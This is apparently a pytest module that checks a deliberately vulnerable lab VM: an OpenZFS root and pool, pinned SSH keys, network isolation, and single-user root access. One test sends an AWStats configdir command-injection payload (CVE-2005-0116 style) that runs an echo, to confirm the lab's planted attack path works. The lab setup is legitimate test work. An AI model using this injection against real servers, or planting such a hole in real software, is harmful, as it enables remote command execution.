"""A lab guest is a real OpenZFS host: root on a boot environment, pinned SSH, a pool, libzfs_core, the
vulnerable CGI, single-user."""

from __future__ import annotations

import base64
import socket
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

import paramiko
import pytest

from recovery.lab.image import ImagePaths
from recovery.lab.keys import generate_ed25519
from recovery.lab.ports import LOOPBACK
from recovery.lab.vm import BootMode, Guest, LanAddress, LanSwitch
from recovery.secrets import resolve

pytestmark = pytest.mark.lab


@pytest.fixture(scope="module")
def pool(guest: Guest) -> str:
    """Pool ``tank`` on the guest's data disk (created once)."""
    result = guest.run("modprobe zfs && (zpool list tank >/dev/null 2>&1 || zpool create -f tank /dev/disk/by-id/virtio-TANK0)")
    assert result.ok, result.stderr
    return "tank"


def test_ssh_answers_with_the_pinned_host_key(guest: Guest) -> None:
    result = guest.run("hostname")
    assert result.ok
    assert result.stdout.strip() == b"lab-web"


def test_root_is_the_boot_environment_the_pool_bootfs_names(guest: Guest) -> None:
    result = guest.run("findmnt -no SOURCE /; zpool get -H -o value bootfs rpool")
    assert result.ok, result.stderr
    assert result.stdout.split() == [b"rpool/ROOT/debian", b"rpool/ROOT/debian"]


def test_ssh_refuses_a_guest_with_another_host_key(guest: Guest, tmp_path: Path) -> None:
    other = generate_ed25519(tmp_path / "other_key", "someone-else").split()
    client = paramiko.SSHClient()
    client.get_host_keys().add(
        f"[127.0.0.1]:{guest.ssh_port}", other[0], paramiko.Ed25519Key(data=base64.b64decode(other[1]))
    )
    client.set_missing_host_key_policy(paramiko.RejectPolicy())
    with pytest.raises(paramiko.BadHostKeyException):
        client.connect(
            "127.0.0.1", port=guest.ssh_port, username="root",
            key_filename=str(guest.image.operator_key), look_for_keys=False, allow_agent=False,
        )  # fmt: skip
    client.close()


def test_guest_cannot_open_connections_through_user_networking(guest: Guest) -> None:
    """restrict=on: even the host's own loopback (10.0.2.2 in the guest) is out of reach."""
    with socket.socket() as listener:
        listener.bind((LOOPBACK, 0))
        listener.listen()
        port = listener.getsockname()[1]
        probe = (
            "import socket; s = socket.socket(); s.settimeout(5); "
            f"print(s.connect_ex(('10.0.2.2', {port})))"
        )
        result = guest.run(f'python3 -c "{probe}"')
    assert result.ok, result.stderr
    assert result.stdout.strip() != b"0"


def test_zpool_is_online(guest: Guest, pool: str) -> None:
    result = guest.run(f"zpool status {pool}")
    assert result.ok, result.stderr
    assert b"state: ONLINE" in result.stdout
    assert b"virtio-TANK0" in result.stdout


def test_libzfs_core_snapshot(guest: Guest, pool: str) -> None:
    script = "import libzfs_core as lzc; lzc.lzc_snapshot([b'tank/x@s1'])"
    result = guest.run(f'zfs create {pool}/x && python3 -c "{script}" && zfs list -H -t snapshot -o name')
    assert result.ok, result.stderr
    assert b"tank/x@s1" in result.stdout.split()


def test_vulnerable_stats_cgi_runs_a_shell_command(guest: Guest) -> None:
    """The lab's attack path exists: configdir reaches a shell (CVE-2005-0116 style)."""
    url = f"http://127.0.0.1:{guest.http_port}/cgi-bin/awstats.pl?configdir=%7Cecho%20inj$((6*7));%23"
    with urllib.request.urlopen(url, timeout=30) as response:
        body = response.read()
    assert b"AWStats" in body
    assert b"inj42" in body


def test_guests_from_one_image_differ_and_share_the_lab_lan(
    guest: Guest, boot_guest: Callable[..., Guest], lan: LanSwitch
) -> None:
    other = boot_guest("lab-peer", lan=lan, lan_address=LanAddress.for_host_number(12))
    other.wait_for_ssh(300)
    assert other.host_key != guest.host_key
    assert other.run("hostname").stdout.strip() == b"lab-peer"
    keys = guest.run("cat /etc/ssh/ssh_host_ed25519_key.pub").stdout.split()[:2]
    assert b" ".join(keys).decode() == " ".join(guest.host_key.split()[:2])
    ping = other.run("ping -c 2 -W 5 10.77.0.11")
    assert ping.ok, ping.stdout + ping.stderr
    other.stop()


def test_single_user_boot_gives_root_shell_on_console(
    lab_image: ImagePaths, boot_guest: Callable[..., Guest]
) -> None:
    rescue = boot_guest("lab-rescue", BootMode.SINGLE_USER)
    started = time.monotonic()
    console = rescue.console()
    try:
        console.expect(rb"Give root password for maintenance", timeout=300)
        prompt_seconds = time.monotonic() - started
        console.expect(rb"Control-D", timeout=10)
        time.sleep(1.0)
        console.send_line(resolve(f"file:{lab_image.root_password_file}", "lab root password"))
        console.expect(rb"#", timeout=60)
        console.send_line("echo RECOVERY''-BEGIN; hostname; systemctl is-active rescue.target; findmnt -no SOURCE /; "
                          "echo RECOVERY''-END")
        match = console.expect(rb"(?s)RECOVERY-BEGIN\r?\n(.*?)RECOVERY-END", timeout=60)
    finally:
        console.close()
    lines = match.group(1).split()
    assert b"lab-rescue" in lines
    assert b"active" in lines
    assert b"rpool/ROOT/debian" in lines
    print(f"single-user: sulogin prompt {prompt_seconds:.1f} s after QEMU start")
    rescue.stop()
